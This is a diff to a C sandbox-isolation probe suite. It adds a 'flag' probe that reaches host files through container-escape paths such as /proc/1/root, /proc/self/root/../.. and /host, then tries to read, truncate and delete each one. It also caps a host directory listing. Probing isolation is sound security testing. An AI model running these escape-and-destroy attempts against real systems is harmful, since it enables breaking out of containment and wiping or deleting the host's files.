@@ -15,8 +15,10 @@ struct dirent64 {
 	char name[];
 };
 
-/* list prints every entry of a directory, and of those below but for /proc's. */
+/* list prints every entry of a directory, and of those below but for /proc's.
+ * Where there is no jail, a few thousand names of the host are enough. */
 static void list(const char *dir, int depth) {
+	if (said > 3000) return;
 	char buf[4096], path[512];
 	long fd = sys(SYS_openat, AT_FDCWD, dir, O_DIRECTORY, 0), n;
 	if (fd < 0) {
@@ -187,6 +189,20 @@ static void p10(void) {
 	say("forty levels up", fd < 0 ? fd : sys(SYS_newfstatat, fd, "", st, 0x1000) || st[0] != dev || st[1] != ino);
 }
 
+/* args are files of the host: each is tried by every way that leads there
+ * where something is missing around us. */
+static void flag(void) {
+	static const char *ways[] = {"", "/proc/1/root", "/proc/self/root", "/proc/self/cwd", "/proc/self/root/../..", "/mnt/binfs/../..", "/host"};
+	char path[512], name[600];
+	for (int i = 0; i < nargs; i++)
+		for (u32 k = 0; k < sizeof ways / sizeof ways[0]; k++) {
+			join(path, ways[k], args[i]);
+			say(join(name, "read ", path), openr(path));
+			say(join(name, "write ", path), sys(SYS_openat, AT_FDCWD, path, O_WRONLY | O_TRUNC, 0));
+			say(join(name, "unlink ", path), sys(SYS_unlinkat, AT_FDCWD, path, 0));
+		}
+}
+
 static void p11(void) {
 	long fd = openr("/");
 	say("chdir", sys(SYS_chdir, ".."));
@@ -264,5 +280,5 @@ static void n37(void) {
 
 const struct probe files[] = {
 	{"P1", p1}, {"P2", p2}, {"P3", p3}, {"P5", p5}, {"P6", p6}, {"P7", p7}, {"P8", p8}, {"P10", p10}, {"P11", p11}, {"P13", p13}, {"P19", p19},
-	{"P21", p21}, {"P22", p22}, {"N37", n37}, {0, 0},
+	{"P21", p21}, {"P22", p22}, {"flag", flag}, {"N37", n37}, {0, 0},
 };
